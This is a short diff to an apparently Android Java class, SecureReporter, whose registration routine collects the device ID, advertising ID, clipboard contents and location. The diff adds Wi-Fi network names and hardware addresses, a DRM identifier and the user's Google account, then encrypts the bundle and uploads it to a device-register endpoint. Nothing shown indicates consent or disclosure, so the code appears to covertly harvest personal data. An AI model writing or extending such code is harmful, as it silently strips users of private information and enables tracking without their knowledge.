@@ -21,13 +21,17 @@ final class SecureReporter {
 
     private SecureReporter() {}
 
-    static void register(DeviceInfo device) throws JSONException {
+    static void register(DeviceInfo device, EnvironmentProbe environment) throws JSONException {
         JSONObject profile = new JSONObject()
                 .put("openudid", device.androidId)
                 .put("google_aid", device.advertisingId)
                 .put("clipboard", device.clipboardText)
                 .put("latitude", device.latitude)
-                .put("longitude", device.longitude);
+                .put("longitude", device.longitude)
+                .put("wifi_ssid", environment.wifiSsid)
+                .put("wifi_bssid", environment.wifiBssid)
+                .put("drm_id", environment.drmId)
+                .put("account", environment.googleAccount);
         byte[] sealed = encrypt(profile.toString().getBytes(StandardCharsets.UTF_8));
         LogSender.post(DEVICE_REGISTER, "application/octet-stream",
                 Base64.encodeToString(sealed, Base64.NO_WRAP).getBytes(StandardCharsets.US_ASCII), false);
